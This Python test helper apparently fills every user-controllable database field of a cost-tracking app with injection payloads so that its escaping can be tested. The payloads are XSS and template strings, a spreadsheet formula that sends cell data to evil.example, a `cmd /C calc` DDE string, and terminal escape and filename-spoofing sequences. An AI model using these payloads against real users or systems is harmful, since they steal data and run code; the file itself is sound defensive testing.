"""A ledger in which every text that someone outside can choose is an attack."""

from __future__ import annotations

import re
from collections.abc import Mapping

from sqlalchemy import Table, select, update

from costguard.db import tables
from costguard.db.transaction import Database

# For pages, for spreadsheets, for terminals, and for eyes.
MARKUP = "<img src=x onerror='window.harmed=1'>\"'><script>window.harmed=1</script></script>{{ 7*7 }}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x"),+1,-1,@SUM(1)|cmd\' /C calc\'!A0'
TERMINAL = "\x1b]0;harmed\x07\x1b[2J\x1b[31m\x9b31m\x08\r\u202egnp.exe\u2066"
ATTACK = f"{FORMULA}{MARKUP}{TERMINAL}"
HARMFUL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
MEGABYTE = "A<b>\x1b[1m=" * 100_000

_TEXTS: Mapping[str, tuple[str, ...]] = {
    "instances": ("name", "owner", "created_by", "machine_type", "zone"),
    "lifetimes": ("owner", "ended_by", "unpriced"),
    "storage_spans": ("name", "owner", "unpriced"),
    "utilisation": ("sentence",),
    "events": ("text", "actor", "name"),
    "jobs": ("name", "reason", "cancel_asked_by", "look_error", "look_resume_from"),
    "attempts": ("reason", "error", "resume_from", "stop_why"),
    "requests": ("reason", "outcome", "by"),
    "keeps": ("reason", "by"),
    "messages": ("address", "error"),
    "stops": ("reason", "error"),
    "price_refusals": ("reason", "source"),
    "prices": ("source",),
    "api_tokens": ("name", "owner"),
    "sessions": ("address",),
}
_LONG = {("events", "text"), ("attempts", "error"), ("jobs", "reason")}


def spoil(database: Database, is_long: bool = False) -> None:
    """Put the attack into all of them; `is_long`: a megabyte, where a text has no limit."""
    named: dict[str, Table] = {name: getattr(tables, name) for name in _TEXTS}
    with database.write() as connection:
        for name, columns in _TEXTS.items():
            values = {column: MEGABYTE if is_long and (name, column) in _LONG else ATTACK for column in columns}
            connection.execute(update(named[name]).values(values))
        output = MEGABYTE if is_long else f"{ATTACK}\n{ATTACK}"
        connection.execute(update(tables.attempts).values(output=output))
        connection.execute(update(tables.instances).values(labels={"owner": ATTACK, ATTACK: "x"}))
        connection.execute(update(tables.events).values(data={"job": ATTACK, ATTACK: [ATTACK]}))
        for row in connection.execute(select(tables.jobs.c.id, tables.jobs.c.spec)).all():
            spec = {**row.spec, "command": ["python", ATTACK], "image": ATTACK, "environment": {"A": ATTACK}}
            connection.execute(update(tables.jobs).where(tables.jobs.c.id == row.id).values(spec=spec))
        unread = [{"scope": ATTACK, "code": ATTACK, "reason": ATTACK}]
        connection.execute(update(tables.projects).values(unread=unread))
